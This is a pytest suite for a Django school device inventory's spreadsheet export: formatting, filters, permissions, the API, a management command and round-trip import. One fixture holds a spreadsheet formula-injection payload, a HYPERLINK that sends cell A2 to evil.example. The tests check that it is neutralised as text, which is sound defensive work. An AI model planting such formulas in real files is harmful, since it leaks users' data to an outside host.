import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from django.utils import timezone, translation

from core.errors import PermissionDenied, ValidationFailed
from core.sheets.xlsx import MONEY_FORMAT
from inventory.columns import DEVICE_COLUMNS
from inventory.exporting import device_export
from inventory.importing import device_import_apply
from inventory.models import Category, Device, DeviceHistory, Status
from inventory.selectors import DeviceFilters
from inventory.services import DEVICE_FIELDS, history_value
from tests.factories import DeviceFactory, DeviceModelFactory, RoomFactory

URL = "/api/v1/devices/export"
HEADERS_EN = [
    "Asset tag",
    "Serial number",
    "Manufacturer",
    "Model",
    "Category",
    "School number",
    "Room",
    "Status",
    "Purchase date",
    "Purchase price",
    "Funding programme",
    "Warranty until",
    "Lendable",
    "MAC addresses",
    "Notes",
]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Details")'
AWKWARD_NOTE = 'Müller\'s "Gerät"; Akku, defekt\nZweite Zeile'


@pytest.fixture(autouse=True)
def _fast_password_hashing(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def devices(school_a, school_b):
    laptop = DeviceModelFactory(manufacturer="Lenovo", name="ThinkPad L14", category="laptop")
    tablet = DeviceModelFactory(manufacturer="Apple", name="iPad 10.9", category="tablet")
    e12 = RoomFactory(school=school_a, name="E12")
    RoomFactory(school=school_a, name="Raum Süd")
    r1 = RoomFactory(school=school_b, name="R1")
    return [
        DeviceFactory(
            asset_tag="INV-0001",
            serial_number="PF3ABC12",
            model=laptop,
            school=school_a,
            room=e12,
            status=Status.IN_USE,
            purchase_date=datetime.date(2021, 8, 1),
            purchase_price=Decimal("1649.50"),
            funding_programme="DigitalPakt Schule",
            warranty_end=datetime.date(2025, 7, 31),
            lendable=True,
            mac_addresses=["AA:BB:CC:DD:EE:01", "AA:BB:CC:DD:EE:02"],
            notes=HYPERLINK,
        ),
        DeviceFactory(
            asset_tag="INV-0002",
            serial_number="DMPXK1",
            model=tablet,
            school=school_a,
            room=None,
            status=Status.IN_REPAIR,
            purchase_date=None,
            purchase_price=None,
            funding_programme="",
            warranty_end=None,
            notes=AWKWARD_NOTE,
        ),
        DeviceFactory(
            asset_tag="INV-0003",
            serial_number="-5",
            model=laptop,
            school=school_b,
            room=r1,
            status=Status.IN_STOCK,
            notes="+49 221 123",
        ),
        DeviceFactory(
            asset_tag="INV-0004",
            serial_number="000123",
            model=tablet,
            school=school_a,
            status=Status.ON_LOAN,
            lendable=True,
            notes="@SUM(A1)",
        ),
    ]


def export_bytes(actor, fmt="xlsx", filters=None, language="en") -> tuple[bytes, object]:
    with translation.override(language):
        export = device_export(actor=actor, filters=filters, fmt=fmt)
    try:
        return export.path.read_bytes(), export
    finally:
        export.path.unlink()


def xlsx_rows(data: bytes) -> dict[str, dict[str, object]]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows(values_only=True))
    return {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def asset_tags(data: bytes, fmt: str) -> list[str]:
    if fmt == "xlsx":
        return list(xlsx_rows(data))
    return [row[0] for row in csv_rows(data)[1:]]


def snapshot() -> dict[str, dict[str, str]]:
    return {
        device.asset_tag: {field: history_value(getattr(device, field)) for field in DEVICE_FIELDS}
        for device in Device.objects.select_related("model", "school", "room")
    }


# What the file holds


def test_xlsx_export_has_the_import_headers_and_cells_a_user_reads(it_admin, devices):
    data, export = export_bytes(it_admin)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert export.rows == 4
    assert sheet.title == "Devices"
    assert [cell.value for cell in sheet[1]] == HEADERS_EN
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:O5"
    for index, column in enumerate(DEVICE_COLUMNS):
        letter = openpyxl.utils.get_column_letter(index + 1)
        assert sheet.column_dimensions[letter].width == pytest.approx(column.width, abs=1)

    first = xlsx_rows(data)["INV-0001"]
    assert first["Category"] == "Laptop"
    assert first["Status"] == "In use"
    assert first["Lendable"] == "yes"
    assert first["School number"] == "165432"
    assert first["Room"] == "E12"
    assert first["MAC addresses"] == "AA:BB:CC:DD:EE:01, AA:BB:CC:DD:EE:02"
    assert first["Purchase date"] == datetime.datetime(2021, 8, 1)
    assert first["Warranty until"] == datetime.datetime(2025, 7, 31)
    assert first["Purchase price"] == pytest.approx(1649.5)
    assert sheet["J2"].number_format == MONEY_FORMAT
    assert sheet["I2"].is_date and sheet["I2"].number_format.lower() == "dd.mm.yyyy"

    second = xlsx_rows(data)["INV-0002"]
    assert second["Status"] == "In repair"
    assert second["Lendable"] == "no"
    assert second["Room"] is None
    assert second["Purchase price"] is None


def test_xlsx_export_writes_formula_like_values_as_text(it_admin, devices):
    data, _export = export_bytes(it_admin)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    notes = {row[0].value: row[14] for row in sheet.iter_rows(min_row=2)}
    assert notes["INV-0001"].value == HYPERLINK
    assert notes["INV-0003"].value == "+49 221 123"
    assert notes["INV-0004"].value == "@SUM(A1)"
    assert {cell.data_type for cell in notes.values()} == {"s"}
    serial = next(row[1] for row in sheet.iter_rows(min_row=2) if row[0].value == "INV-0003")
    assert (serial.value, serial.data_type) == ("-5", "s")


def test_csv_export_is_for_german_excel_with_umlauts_and_quoting_intact(it_admin, devices):
    data, export = export_bytes(it_admin, "csv")
    assert data.startswith(b"\xef\xbb\xbf")
    assert export.content_type.startswith("text/csv")
    assert data.decode("utf-8-sig").splitlines()[0] == ";".join(HEADERS_EN)
    rows = {row[0]: dict(zip(HEADERS_EN, row, strict=True)) for row in csv_rows(data)[1:]}
    assert rows["INV-0001"]["Purchase date"] == "01.08.2021"
    assert rows["INV-0001"]["Purchase price"] == "1649,50"
    assert rows["INV-0002"]["Notes"] == AWKWARD_NOTE
    assert rows["INV-0002"]["Purchase price"] == ""
    assert rows["INV-0001"]["Notes"] == "'" + HYPERLINK
    assert rows["INV-0003"]["Notes"] == "'+49 221 123"
    assert rows["INV-0003"]["Serial number"] == "'-5"
    assert rows["INV-0004"]["Notes"] == "'@SUM(A1)"
    assert rows["INV-0004"]["Serial number"] == "000123"


def test_export_refuses_an_unknown_format(it_admin, devices):
    with pytest.raises(ValidationFailed) as refused:
        device_export(actor=it_admin, fmt="pdf")
    assert refused.value.errors[0]["field"] == "format"


def test_export_filename_names_the_devices_and_the_day(it_admin, devices):
    _data, export = export_bytes(it_admin, "csv")
    assert export.filename == f"devices-{timezone.localdate():%Y-%m-%d}.csv"


# Which devices


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        (DeviceFilters(status=Status.IN_REPAIR), ["INV-0002"]),
        (DeviceFilters(school="123456"), ["INV-0003"]),
        (DeviceFilters(category=Category.TABLET, lendable=True), ["INV-0004"]),
        (DeviceFilters(q="ipad"), ["INV-0002", "INV-0004"]),
        (
            DeviceFilters(funding_programme="digitalpakt schule"),
            ["INV-0001", "INV-0003", "INV-0004"],
        ),
        (
            DeviceFilters(warranty_before=datetime.date(2025, 8, 1)),
            ["INV-0001", "INV-0003", "INV-0004"],
        ),
        (DeviceFilters(ordering="-asset_tag"), ["INV-0004", "INV-0003", "INV-0002", "INV-0001"]),
    ],
)
def test_export_applies_the_device_list_filters_and_ordering(it_admin, devices, filters, expected):
    data, _export = export_bytes(it_admin, "csv", filters)
    assert asset_tags(data, "csv") == expected


def test_coordinator_exports_only_the_devices_of_their_schools(coordinator, devices):
    data, _export = export_bytes(coordinator)
    assert asset_tags(data, "xlsx") == ["INV-0001", "INV-0002", "INV-0004"]


def test_teacher_may_not_export_devices(teacher, devices):
    with pytest.raises(PermissionDenied):
        device_export(actor=teacher, fmt="csv")


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_export_needs_the_same_queries_for_many_devices_as_for_few(
    coordinator, school_a, devices, fmt, django_assert_max_num_queries
):
    # One for the coordinator's schools, one for the devices, however many there are.
    with django_assert_max_num_queries(2):
        few, _export = export_bytes(coordinator, fmt)
    DeviceFactory.create_batch(40, school=school_a, model=devices[0].model)
    coordinator._lernstatt_school_ids = None
    with django_assert_max_num_queries(2):
        many, _export = export_bytes(coordinator, fmt)
    assert len(asset_tags(many, fmt)) == len(asset_tags(few, fmt)) + 40


# Round trip: export, edit in a spreadsheet program, import


def test_round_trip_changes_exactly_the_cells_edited_in_the_spreadsheet(it_admin, devices):
    before = snapshot()
    history_before = DeviceHistory.objects.count()
    data, _export = export_bytes(it_admin, "xlsx")

    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.active
    column = {cell.value: cell.column for cell in sheet[1]}
    row = {sheet.cell(r, 1).value: r for r in range(2, sheet.max_row + 1)}
    sheet.cell(row["INV-0001"], column["Room"]).value = "Raum Süd"
    sheet.cell(row["INV-0002"], column["Status"]).value = "Lost"
    sheet.cell(row["INV-0002"], column["Purchase price"]).value = 199.99
    sheet.cell(row["INV-0003"], column["Notes"]).value = "Akku getauscht"
    sheet.cell(row["INV-0003"], column["Warranty until"]).value = datetime.datetime(2027, 3, 31)
    edited = io.BytesIO()
    book.save(edited)

    report = device_import_apply(actor=it_admin, data=edited.getvalue(), filename="devices.xlsx")

    assert report.errors == []
    assert report.counts == {"create": 0, "update": 3, "unchanged": 1, "error": 0}
    expected = {tag: dict(fields) for tag, fields in before.items()}
    expected["INV-0001"]["room"] = "Raum Süd"
    expected["INV-0002"]["status"] = "lost"
    expected["INV-0002"]["purchase_price"] = "199.99"
    expected["INV-0003"]["notes"] = "Akku getauscht"
    expected["INV-0003"]["warranty_end"] = "2027-03-31"
    assert snapshot() == expected
    changed = DeviceHistory.objects.filter(action=DeviceHistory.Action.UPDATE)
    assert sorted(changed.values_list("asset_tag", "field")) == [
        ("INV-0001", "room"),
        ("INV-0002", "purchase_price"),
        ("INV-0002", "status"),
        ("INV-0003", "notes"),
        ("INV-0003", "warranty_end"),
    ]
    assert DeviceHistory.objects.count() == history_before + 5


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
@pytest.mark.parametrize("language", ["de", "en"])
def test_an_exported_file_imports_back_unchanged(it_admin, devices, fmt, language):
    before = snapshot()
    history_before = DeviceHistory.objects.count()
    data, export = export_bytes(it_admin, fmt, language=language)

    with translation.override(language):
        report = device_import_apply(actor=it_admin, data=data, filename=export.filename)

    assert report.errors == []
    assert report.counts == {"create": 0, "update": 0, "unchanged": 4, "error": 0}
    assert snapshot() == before
    assert DeviceHistory.objects.count() == history_before


# The API


@pytest.mark.parametrize(
    ("fmt", "content_type"),
    [
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("csv", "text/csv; charset=utf-8"),
    ],
)
def test_api_download_is_an_attachment_of_the_right_type(
    client_for, coordinator, devices, fmt, content_type
):
    response = client_for(coordinator, language="en").get(URL, {"format": fmt})
    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    filename = f"devices-{timezone.localdate():%Y-%m-%d}.{fmt}"
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'
    body = b"".join(response.streaming_content)
    assert int(response["Content-Length"]) == len(body)
    assert asset_tags(body, fmt) == [
        "INV-0001",
        "INV-0002",
        "INV-0004",
    ]


def test_api_export_takes_the_device_list_filters(client_for, it_admin, devices):
    response = client_for(it_admin).get(
        URL, {"format": "csv", "school": "165432", "status": "on_loan", "lendable": "true"}
    )
    assert response.status_code == 200
    assert asset_tags(b"".join(response.streaming_content), "csv") == ["INV-0004"]


def test_api_export_is_not_mistaken_for_a_device_called_export(client_for, it_admin, devices):
    DeviceFactory(asset_tag="export", school=devices[0].school, model=devices[0].model)
    response = client_for(it_admin).get(URL)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")


def test_api_refuses_an_unknown_format_in_the_error_shape(client_for, it_admin, devices):
    response = client_for(it_admin).get(URL, {"format": "pdf"})
    assert response.status_code == 422
    assert response.json()["code"] == "validation_failed"
    assert [error["field"] for error in response.json()["errors"]] == ["format"]


def test_api_teacher_gets_403(client_for, teacher, devices):
    response = client_for(teacher).get(URL)
    assert response.status_code == 403
    assert response.json()["code"] == "permission_denied"


def test_api_anonymous_gets_401(client, devices):
    assert client.get(URL).status_code == 401


# The management command


def test_command_writes_the_file_with_the_filters_and_the_users_scope(
    tmp_path, coordinator, devices
):
    output = tmp_path / "geraete.csv"
    out = io.StringIO()
    with translation.override("en"):
        call_command(
            "export_devices",
            str(output),
            "--user",
            "koord",
            "--status",
            "in_repair",
            "--language",
            "en",
            stdout=out,
        )
    assert asset_tags(output.read_bytes(), "csv") == ["INV-0002"]
    assert "1 device written" in out.getvalue()


def test_command_without_user_exports_every_school_and_reads_status_labels(tmp_path, devices):
    output = tmp_path / "geraete.xlsx"
    call_command("export_devices", str(output), "--status", "In stock", stdout=io.StringIO())
    assert asset_tags(output.read_bytes(), "xlsx") == ["INV-0003"]


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["devices.pdf"], ".xlsx or .csv"),
        (["devices.csv", "--user", "nobody"], "nobody"),
        (["devices.csv", "--status", "kaputt"], "kaputt"),
        (["devices.csv", "--user", "lehrer"], "not allowed"),
    ],
)
def test_command_refuses_what_it_cannot_do(tmp_path, teacher, devices, args, message):
    args = [str(tmp_path / args[0]), *args[1:]]
    with translation.override("en"), pytest.raises(CommandError, match=message):
        call_command("export_devices", *args, "--language", "en")
    assert not any(tmp_path.iterdir())
